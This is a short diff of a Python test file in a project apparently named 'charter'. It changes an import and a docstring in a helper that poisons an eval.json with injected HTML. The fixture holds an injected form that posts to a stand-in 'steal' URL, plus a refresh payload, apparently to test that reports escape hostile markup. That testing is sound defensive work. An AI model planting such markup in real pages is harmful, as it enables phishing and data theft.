@@ -8,7 +8,7 @@ import pytest
 
 from charter.backends.fake import FakeBackend
 from charter.cli import main
-from charter.config import GenerateConfig
+from charter.generate import GenerateConfig
 from charter.evaluate.suite import evaluate_records as evaluate
 from charter.generate import generate
 from charter.report import assets
@@ -26,7 +26,7 @@ FORM = '<form action="https://example.com/steal"><input name="q"></form>'
 
 def poison_eval(run):
     """Rewrite the run's eval.json with markup in every text value and label (numbers kept, so
-    the plots still draw): a crafted eval.json, as issue 23 sent one."""
+    the plots still draw): a crafted eval.json, as an attacker would send."""
     payload = REFRESH + FORM
 
     def walk(v):
